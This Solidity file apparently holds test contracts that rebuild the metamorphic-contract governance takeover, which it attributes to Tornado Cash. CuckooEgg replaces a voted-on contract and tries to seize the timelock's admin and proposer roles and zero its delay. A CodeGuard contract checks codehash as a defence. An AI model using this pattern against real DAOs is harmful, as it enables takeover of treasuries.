// SPDX-License-Identifier: MIT
pragma solidity ^0.8.27;

/// Has the same code always, so `create2` puts it at the same address always; what it creates first then stands at the
/// same address too, whatever its code is. The trick of the Tornado Cash takeover of May 2023.
contract Nest {
    function lay(bytes memory code) external returns (address egg) {
        assembly {
            egg := create(0, add(code, 32), mload(code))
        }
        require(egg != address(0), "nothing laid");
    }

    function burn() external {
        selfdestruct(payable(msg.sender));
    }
}

/// Makes the nest, again and again if it can.
contract Metamorph {
    receive() external payable {}

    function nest() public returns (Nest) {
        return new Nest{salt: bytes32(0)}();
    }

    /// Shows a code at the address and takes it away again in one transaction, where `selfdestruct` still clears (EIP-6780).
    function flicker(bytes calldata code) external returns (address egg) {
        Nest made = nest();
        egg = made.lay(code);
        Egg(payable(egg)).burn();
        made.burn();
    }
}

/// What members vote on: passes the grant on.
contract Egg {
    address payable internal constant PRACTICE = payable(address(0x5050505050505050505050505050505050505050));

    receive() external payable {}

    function grant() external payable virtual {
        (bool success,) = PRACTICE.call{value: msg.value}("");
        require(success, "not passed on");
    }

    function burn() external {
        selfdestruct(payable(msg.sender));
    }
}

/// What shall stand there when it is executed: keeps the grant, and reaches for all else that the treasury has.
contract CuckooEgg is Egg {
    /// One of its attempts, made while the timelock calls it.
    event Tried(bool success, bytes data);

    function grant() external payable override {
        attempt(abi.encodeWithSignature("grantRole(bytes32,address)", bytes32(0), address(this)));
        attempt(abi.encodeWithSignature("grantRole(bytes32,address)", keccak256("PROPOSER_ROLE"), address(this)));
        attempt(abi.encodeWithSignature("updateDelay(uint256)", 0));
    }

    /// Calls back whoever calls: the timelock.
    function attempt(bytes memory call) private {
        (bool success, bytes memory data) = msg.sender.call(call);
        emit Tried(success, data);
    }
}

/// An address whose code can be changed by design, which no hash of its own code tells.
contract Facade {
    event Upgraded(address indexed implementation);

    address private implementation;
    address private immutable owner = msg.sender;

    constructor(address first) {
        implementation = first;
    }

    function upgrade(address next) external {
        require(msg.sender == owner, "not the owner");
        implementation = next;
        emit Upgraded(next);
    }

    receive() external payable {}

    fallback() external payable {
        (bool success, bytes memory data) = implementation.delegatecall(msg.data);
        assembly {
            switch success
            case 0 { revert(add(data, 32), mload(data)) }
            default { return(add(data, 32), mload(data)) }
        }
    }
}

/// Lets a batch go on only where an account has the code that was voted on. A proposal that calls a contract which its
/// proposer controls calls this first.
contract CodeGuard {
    error WrongCode(address account, bytes32 found, bytes32 expected);

    function requireCode(address account, bytes32 expected) external view {
        if (account.codehash != expected) revert WrongCode(account, account.codehash, expected);
    }
}
